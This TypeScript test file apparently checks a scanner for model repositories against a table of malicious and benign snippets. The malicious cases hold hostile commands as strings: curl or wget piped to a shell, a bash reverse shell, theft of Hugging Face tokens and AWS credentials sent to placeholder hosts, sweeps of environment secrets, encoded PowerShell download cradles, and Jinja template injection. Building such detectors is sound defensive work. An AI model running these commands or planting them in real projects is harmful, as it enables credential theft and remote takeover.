// Table-driven: realistic snippets on both sides. Malicious ones must produce the named finding at the named
// severity; benign ones must stay quiet (nothing a reviewer has to act on). Sources are strings, never executed.
import { deflateSync } from 'node:zlib';
import type { Severity } from '../../../src/core/findings.js';
import { findingsFor, notable, summary } from './repo.js';

const b64 = (s: string | Buffer): string => Buffer.from(s).toString('base64');
const PAYLOAD = b64('import os; os.system("curl -s https://collect.invalid/s | sh")');
const ZLIB = b64(deflateSync(Buffer.from('import socket,os;s=socket.socket();s.connect(("10.0.0.1",4444))')));
const PS_ENC = Buffer.from('iex (iwr https://x.invalid/a.ps1)', 'utf16le').toString('base64');
const AUTO_MAP = JSON.stringify({ model_type: 'x', auto_map: { AutoConfig: 'configuration_x.XConfig', AutoModel: 'modeling_x.XModel' } });
const nb = (...cells: string[]): string => JSON.stringify({
  nbformat: 4, nbformat_minor: 5, metadata: {},
  cells: cells.map((c) => ({ cell_type: 'code', metadata: {}, outputs: [], execution_count: null, source: c.split('\n').map((l, i, a) => (i < a.length - 1 ? `${l}\n` : l)) }))
}, null, 1);

type Case = [name: string, files: Record<string, string>, expect: [check: string, severity: Severity] | 'quiet'];

const CASES: Case[] = [
  // ── malicious ──
  ['exec of base64', { 'run.py': `import base64\nexec(base64.b64decode("${PAYLOAD}"))\n` }, ['code.dynamic-exec', 'critical']],
  ['concat import', { 'a.py': '__import__("o" + "s").system("id")\n' }, ['code.dynamic-import', 'critical']],
  ['getattr built name', { 'a.py': 'f = getattr(__import__("os"), "sys" + "tem")\nf("id")\n' }, ['code.dynamic-import', 'critical']],
  ['zlib + marshal', { 'a.py': `import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode("${ZLIB}"))))\n` }, ['code.dynamic-exec', 'critical']],
  ['rot13 eval', { 'a.py': 'import codecs\neval(codecs.decode("bf.flfgrz(\'vq\')", "rot13"))\n' }, ['code.dynamic-exec', 'critical']],
  ['hf token stealer', { 'util.py': 'import os, requests\np = os.path.join(os.path.expanduser("~"), ".cache", "huggingface", "token")\ntok = open(p).read()\nrequests.post("https://collect.invalid/t", data={"t": tok})\n' }, ['code.credentials', 'critical']],
  ['hf token exfil send', { 'util.py': 'import requests\nfrom pathlib import Path\ntok = (Path.home() / ".cache/huggingface/token").read_text()\nrequests.post("https://collect.invalid/t", json={"t": tok})\n' }, ['code.network-send', 'critical']],
  ['env sweep', { 'env.py': 'import os, json, urllib.request\nleak = {k: v for k, v in os.environ.items() if "TOKEN" in k or "KEY" in k}\nurllib.request.urlopen(urllib.request.Request("https://c.invalid", data=json.dumps(leak).encode()))\n' }, ['code.env-sweep', 'critical']],
  ['env sweep loop', { 'env.py': 'import os\nfound = []\nfor name in os.environ:\n    if name.endswith("_SECRET") or "PASSWORD" in name:\n        found.append(os.environ[name])\n' }, ['code.env-sweep', 'critical']],
  ['requests download exec', { 'dl.py': 'import os, requests, subprocess\ndef go(dest):\n    with open(dest, "wb") as f:\n        f.write(requests.get("https://x.invalid/bin").content)\n    os.chmod(dest, 0o755)\n    subprocess.run([dest])\n' }, ['code.download-exec', 'critical']],
  ['os.system curl pipe', { 'a.py': 'import os\nos.system("curl -s https://x.invalid/a.sh | sh")\n' }, ['code.download-exec', 'critical']],
  ['bash -c wget pipe', { 'a.py': 'import subprocess\nsubprocess.run(["bash", "-c", "wget -qO- https://x.invalid/i | bash"])\n' }, ['code.download-exec', 'critical']],
  ['socket send', { 'a.py': 'import socket\ns = socket.socket()\ns.connect(("203.0.113.5", 443))\ns.sendall(b"hello")\n' }, ['code.network-send', 'high']],
  ['exec of download', { 'a.py': 'import requests\nexec(requests.get("https://x.invalid/p.py").text)\n' }, ['code.download-exec', 'critical']],
  ['chr join import', { 'a.py': 'm = "".join(chr(c) for c in [111, 115])\nmod = __import__(m)\n' }, ['code.dynamic-import', 'critical']],
  ['reversed eval', { 'a.py': 's = ")\'di\'(metsys.)\'so\'(__tropmi__"[::-1]\neval(s)\n' }, ['code.dynamic-exec', 'critical']],
  ['scanner aware', { 'a.py': 'import picklescan\n' }, ['code.scanner-aware', 'high']],
  ['pickle of blob', { 'a.py': `import pickle, base64\nobj = pickle.loads(base64.b64decode("${b64('cos\nsystem\n(S"id"\ntR.')}"))\n` }, ['code.dynamic-exec', 'critical']],
  ['native lib', { 'a.py': 'import ctypes\nlib = ctypes.CDLL("./libfast.so")\n' }, ['code.native-load', 'high']],
  ['remote code phones home', { 'config.json': AUTO_MAP, 'configuration_x.py': 'class XConfig: pass\n', 'modeling_x.py': 'import requests\nimport torch\nrequests.get("https://telemetry.invalid/ping?m=x")\nclass XModel(torch.nn.Module):\n    pass\n' }, ['code.network-fetch', 'high']],
  ['eval literal', { 'a.py': 'x = eval("1 + 1")\n' }, ['code.dynamic-exec', 'high']],
  ['setup.py spawn', { 'setup.py': 'import os\nfrom setuptools import setup\nos.system("git submodule update --init")\nsetup(name="x")\n' }, ['code.process-spawn', 'high']],
  ['sh curl sudo bash', { 'install.sh': '#!/bin/bash\nset -e\ncurl -fsSL https://x.invalid/install.sh | sudo bash -s -- --yes\n' }, ['shell.pipe-to-shell', 'critical']],
  ['sh download chmod run', { 'run.sh': '#!/bin/sh\nBIN=/tmp/.rt\nwget -q -O "$BIN" https://x.invalid/rt\nchmod +x "$BIN"\n"$BIN" &\n' }, ['shell.download-exec', 'critical']],
  ['sh base64 pipe', { 'a.sh': 'echo Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo | base64 --decode | bash\n' }, ['shell.decode-exec', 'critical']],
  ['ps iex iwr', { 'setup.ps1': 'iex (iwr https://x.invalid/a.ps1 -UseBasicParsing)\n' }, ['shell.subst-exec', 'critical']],
  ['ps download start', { 'setup.ps1': 'Invoke-WebRequest -Uri https://x.invalid/a.exe -OutFile $env:TEMP\\a.exe\nStart-Process $env:TEMP\\a.exe\n' }, ['shell.download-exec', 'critical']],
  ['bat certutil', { 'setup.bat': '@echo off\ncertutil -urlcache -split -f https://x.invalid/a.exe a.exe && a.exe\n' }, ['shell.download-exec', 'critical']],
  ['sh cat creds curl', { 'a.sh': 'cat ~/.aws/credentials | curl -d @- https://x.invalid/c\n' }, ['shell.credentials', 'critical']],
  ['sh reverse shell', { 'a.sh': 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n' }, ['shell.reverse-shell', 'critical']],
  ['ps encoded', { 'a.ps1': `powershell -NoP -EncodedCommand ${PS_ENC}\n` }, ['shell.obfuscation', 'critical']],
  ['readme curl bash', { 'README.md': '# m\n\nInstall the runtime:\n\n```bash\ncurl -sSL https://x.invalid/i.sh | bash\n```\n' }, ['instructions.pipe-to-shell', 'critical']],
  ['readme git install', { 'README.md': '# m\n\n```\npip install git+https://github.com/evil-org/fast-tokenizers\n```\n' }, ['instructions.git-install', 'high']],
  ['readme extra index', { 'README.md': '# m\n\n```sh\npip install --extra-index-url https://pypi.evil.invalid/simple privacy-tokenizer\n```\n' }, ['instructions.git-install', 'high']],
  ['readme wget run', { 'README.md': '```bash\nwget https://x.invalid/rt && chmod +x rt && ./rt --serve\n```\n' }, ['instructions.run-binary', 'critical']],
  ['readme prose script', { 'README.md': 'Run `bash setup.sh` before the first use.\n', 'setup.sh': '#!/bin/sh\necho ready\n' }, ['instructions.run-repo-script', 'medium']],
  ['readme powershell iex', { 'README.md': '```powershell\niwr https://x.invalid/i.ps1 | iex\n```\n' }, ['instructions.pipe-to-shell', 'critical']],
  ['requirements git', { 'requirements.txt': 'torch>=2.1\nfasttok @ git+https://github.com/evil-org/fasttok.git\n' }, ['requirements.git-url', 'high']],
  ['requirements index', { 'requirements.txt': '--extra-index-url https://pkgs.evil.invalid/simple\ntransformers\n' }, ['requirements.index-url', 'high']],
  ['requirements local', { 'requirements.txt': '-e .\n' }, ['requirements.local-path', 'medium']],
  ['pyproject source', { 'pyproject.toml': '[project]\nname = "x"\n\n[[tool.poetry.source]]\nname = "mirror"\nurl = "https://pkgs.evil.invalid/simple"\n' }, ['requirements.index-url', 'high']],
  ['environment.yml git', { 'environment.yml': 'name: x\ndependencies:\n  - python=3.10\n  - pip:\n    - git+https://github.com/evil-org/x.git\n' }, ['requirements.git-url', 'high']],
  ['notebook bang curl', { 'demo.ipynb': nb('import torch', '!curl -s https://x.invalid/a | bash') }, ['notebook.pipe-to-shell', 'critical']],
  ['notebook bash cell', { 'demo.ipynb': nb('%%bash\nwget -qO- https://x.invalid/a | sh') }, ['notebook.pipe-to-shell', 'critical']],
  ['notebook base64 exec', { 'demo.ipynb': nb('import base64', `code = base64.b64decode("${PAYLOAD}")`, 'exec(code)') }, ['code.dynamic-exec', 'critical']],
  ['setup.py note', { 'setup.py': 'from setuptools import setup\nsetup(name="x", version="1.0")\n' }, ['setup.py', 'medium']],
  ['jinja injection', { 'chat_template.jinja': "{{ ''.__class__.__mro__[1].__subclasses__() }}" }, ['template.injection', 'critical']],
  ['cross-repo auto_map', { 'config.json': JSON.stringify({ auto_map: { AutoModel: 'other-org/helpers--modeling_y.YModel' } }) }, ['remote-code.cross-repo', 'high']],
  ['missing remote module', { 'config.json': JSON.stringify({ auto_map: { AutoModel: 'modeling_z.ZModel' } }) }, ['remote-code.missing-file', 'medium']],
  ['elf named as weights', { 'pytorch_model.bin': '\x7fELF\x02\x01\x01\x00' + '\x00'.repeat(8) + '\x02\x00\x3e\x00' + '\x00'.repeat(44) }, ['layout.executable', 'critical']],
  ['native library', { 'libfast.so': 'not really a library' }, ['layout.unused-file', 'medium']],
  // ── benign ──
  ['convert script', { 'convert.py': 'import argparse\nimport json\nimport os\nimport torch\nfrom safetensors.torch import save_file\n\ndef main():\n    p = argparse.ArgumentParser()\n    p.add_argument("--src")\n    p.add_argument("--out")\n    a = p.parse_args()\n    sd = torch.load(a.src, map_location="cpu", weights_only=True)\n    os.makedirs(a.out, exist_ok=True)\n    save_file(sd, os.path.join(a.out, "model.safetensors"))\n    with open(os.path.join(a.out, "config.json"), "w") as f:\n        json.dump({"dim": 64}, f)\n\nif __name__ == "__main__":\n    main()\n' }, 'quiet'],
  ['modeling-like', { 'modeling_tiny.py': 'import math\nimport torch\nfrom torch import nn\nimport torch.nn.functional as F\n\nclass TinyAttention(nn.Module):\n    def __init__(self, config):\n        super().__init__()\n        self.act = getattr(F, config.hidden_act)\n        self.scale = 1 / math.sqrt(config.head_dim)\n    def forward(self, x):\n        return self.act(x) * self.scale\n' }, 'quiet'],
  ['logging + literal import', { 'util.py': 'import logging, importlib\nlogger = logging.getLogger(__name__)\nflash = importlib.import_module("flash_attn")\nlogger.info("ok")\n' }, 'quiet'],
  ['benign env reads', { 'train.py': 'import os\ndev = os.environ.get("CUDA_VISIBLE_DEVICES", "0")\nhome = os.getenv("HF_HOME")\n' }, 'quiet'],
  ['image download example', { 'example.py': 'import requests\nfrom PIL import Image\nfrom io import BytesIO\nimg = Image.open(BytesIO(requests.get("https://example.com/cat.jpg").content))\n' }, 'quiet'],
  ['hub download then load', { 'infer.py': 'import torch\nfrom huggingface_hub import hf_hub_download\np = hf_hub_download(repo_id="org/m", filename="model.pt")\nsd = torch.load(p, weights_only=True)\n' }, 'quiet'],
  ['base64 encode', { 'api.py': 'import base64\ndef enc(b):\n    return base64.b64encode(b).decode()\n' }, 'quiet'],
  ['decode of parameter', { 'io_utils.py': 'import base64, json\ndef load(s):\n    return json.loads(base64.b64decode(s))\n' }, 'quiet'],
  ['literal_eval', { 'a.py': 'import ast\ncfg = ast.literal_eval("{\\"a\\": 1}")\n' }, 'quiet'],
  ['sh local train', { 'train.sh': '#!/bin/bash\npip install -r requirements.txt\npython train.py --epochs 3 --lr 1e-4 2>&1 | tee train.log\n' }, 'quiet'],
  ['sh hf download', { 'get.sh': 'git lfs install\ngit clone https://huggingface.co/org/model\nhuggingface-cli download org/model --local-dir ./m\n' }, 'quiet'],
  ['benign README', { 'README.md': '---\nlicense: mit\n---\n# Model\n\nWe use Python 3.10.\n\n```bash\npip install transformers torch accelerate\npip install -U "huggingface_hub[cli]"\nhuggingface-cli download org/model\ngit clone https://huggingface.co/org/model\n```\n\n```python\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained("org/model", trust_remote_code=True)\n```\n' }, 'quiet'],
  ['README local server', { 'README.md': '```bash\ncurl localhost:8080/generate -X POST -d \'{"inputs": "hi"}\' -H "Content-Type: application/json"\n```\n' }, 'quiet'],
  ['README inference api', { 'README.md': '```bash\ncurl https://api-inference.huggingface.co/models/org/m -X POST -d \'{"inputs":"x"}\' -H "Authorization: Bearer $HF_TOKEN"\n```\n' }, 'quiet'],
  ['README llama.cpp', { 'README.md': '```\nllama-cli -m model-q4.gguf -p "hello"\n./llama-server -m model-q4.gguf\n```\n' }, 'quiet'],
  ['requirements pinned', { 'requirements.txt': 'torch==2.3.0\ntransformers>=4.40  # new arch\n--extra-index-url https://download.pytorch.org/whl/cu121\n' }, 'quiet'],
  ['requirements hf git', { 'requirements.txt': 'git+https://github.com/huggingface/transformers\n' }, 'quiet'],
  ['notebook pip', { 'demo.ipynb': nb('!pip install transformers', '%matplotlib inline', 'from transformers import pipeline\np = pipeline("text-classification")') }, 'quiet'],
  ['benign jinja', { 'chat_template.jinja': "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}" }, 'quiet'],
  ['mixed weights', { 'model.safetensors': '\x08\x00\x00\x00\x00\x00\x00\x00{}      ', 'pytorch_model.bin': 'x' }, 'quiet']
];

describe('content checks on realistic snippets', () => {
  test('the table holds at least 30 cases on each side', () => {
    expect(CASES.filter((c) => c[2] !== 'quiet').length).toBeGreaterThanOrEqual(30);
    expect(CASES.filter((c) => c[2] === 'quiet').length).toBeGreaterThanOrEqual(15);
  });
  test.each(CASES)('%s', (_name, files, expected) => {
    const found = findingsFor(files);
    if (expected === 'quiet') {
      expect(summary(notable(found).filter((f) => !f.check.startsWith('file.')))).toBe('');
      return;
    }
    const [check, severity] = expected;
    const match = found.find((f) => f.check === check && f.severity === severity);
    if (!match) throw new Error(`expected ${severity} ${check}; got:\n${summary(found)}`);
    expect(match.file).toBeDefined();
    expect(match.help).toBeTruthy();
    expect(match.evidence).toBeTruthy();
  });
});
